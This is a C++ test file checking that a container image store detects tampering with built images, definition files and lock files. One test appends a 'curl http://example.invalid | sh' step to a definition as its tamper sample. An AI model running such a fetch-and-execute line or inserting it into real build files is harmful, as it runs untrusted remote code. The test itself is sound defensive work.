// Tamper evidence: an image, locked def or lock changed after the build is
// caught by `check` and `fsck`.
#include <gtest/gtest.h>

#include <fstream>

#include "support/temp_dir.h"

namespace sifstore::test {
namespace {

const std::string kStandin = std::string(SIFSTORE_SOURCE_DIR) + "/tests/standin/apptainer";

class Tamper : public ::testing::Test {
 protected:
  void SetUp() override {
    write_file(t / "src/layer.def", "Bootstrap: scratch\n\n%post\n  apt-get install -y curl=7.88.1-10\n");
    auto r = sifstore(t / "store", {"build", "base", "--def", t / "src/layer.def", "--builder",
                                    kStandin, "-q", "--json"});
    ASSERT_EQ(r.status, 0) << r.err;
    auto pos = r.out.find("\"ts\": \"");
    ASSERT_NE(pos, std::string::npos) << r.out;
    ts = r.out.substr(pos + 7, 16);
    prefix = t / ("store/base/base-" + ts);
    ASSERT_EQ(sifstore(t / "store", {"check", "base"}).status, 0);
    ASSERT_EQ(sifstore(t / "store", {"fsck", "--hash-images"}).status, 0);
  }
  void append(const std::string& path, const std::string& text) {
    std::ofstream(path, std::ios::app) << text;
  }
  void expect_caught(const std::string& what) {
    auto r = sifstore(t / "store", {"check", "base"});
    EXPECT_EQ(r.status, 1);
    EXPECT_NE(r.err.find(what + " changed after it was built"), std::string::npos) << r.err;
    r = sifstore(t / "store", {"fsck", "--hash-images"});
    EXPECT_EQ(r.status, 1);
    EXPECT_NE(r.out.find("changed after it was built"), std::string::npos) << r.out;
  }
  TempDir t;
  std::string ts, prefix;
};

TEST_F(Tamper, ImageChanged) {
  append(prefix + ".sif", "x");
  expect_caught(prefix + ".sif");
}

TEST_F(Tamper, LockedDefChanged) {
  append(prefix + ".def", "%post\n  curl http://example.invalid | sh\n");
  expect_caught(prefix + ".def");
}

TEST_F(Tamper, LockChanged) {
  std::string lock = read_file(prefix + ".lock");
  auto pos = lock.find("curl=7.88.1-10");
  ASSERT_NE(pos, std::string::npos) << lock;
  lock.replace(pos, 14, "curl=7.88.1-11");
  write_file(prefix + ".lock", lock);
  expect_caught(prefix + ".lock");
}

}  // namespace
}  // namespace sifstore::test
